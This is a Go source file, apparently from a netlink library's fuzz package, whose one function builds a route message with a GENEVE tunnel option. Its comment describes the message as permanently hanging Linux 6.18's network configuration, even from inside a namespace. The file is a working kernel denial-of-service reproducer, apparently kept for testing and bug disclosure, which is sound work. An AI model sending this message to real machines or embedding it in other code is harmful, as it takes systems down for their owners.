package fuzz

import (
	"net/netip"

	"github.com/nlwire/nlwire/rtattr"
)

// Lethal returns a message that is as it should be and stops Linux 6.18 for good: a
// route with `encap ip` and a GENEVE option, to a private prefix by the loopback
// device. There ip_tun_parse_opts fills options that FORTIFY_SOURCE counts by
// options_len, which is still 0 (BUG), with RTNL held: from then on no network
// configuration of the machine comes back, and a namespace does not protect. Send it
// in a machine that may die: see Kernel.
func Lethal() rtattr.Msg {
	var e rtattr.Encoder
	w := rtattr.AppendRoute(&e, rtattr.RTM_NEWROUTE, rtattr.NLM_F_REQUEST|rtattr.NLM_F_CREATE|rtattr.NLM_F_EXCL, rtattr.RtMsg{
		Family: rtattr.AF_INET, DstLen: 24, Table: uint8(rtattr.RT_TABLE_MAIN), Protocol: rtattr.RTPROT_BOOT,
		Scope: rtattr.RT_SCOPE_LINK, Type: rtattr.RTN_UNICAST})
	w.Dst(netip.MustParseAddr("10.255.255.0"))
	w.OIF(1)
	n := w.EncapIP()
	n.ID(1)
	n.Dst(netip.MustParseAddr("10.255.254.1"))
	n.Flags(rtattr.TUNNEL_KEY)
	opts := n.Opts()
	geneve := opts.Geneve()
	geneve.Class(1)
	geneve.Type(2)
	geneve.Data([]byte{1, 2, 3, 4})
	geneve.End()
	opts.End()
	n.End()
	w.End()
	m, err := e.Finish()
	if err != nil {
		panic(err) // no argument can be wrong
	}
	return m
}
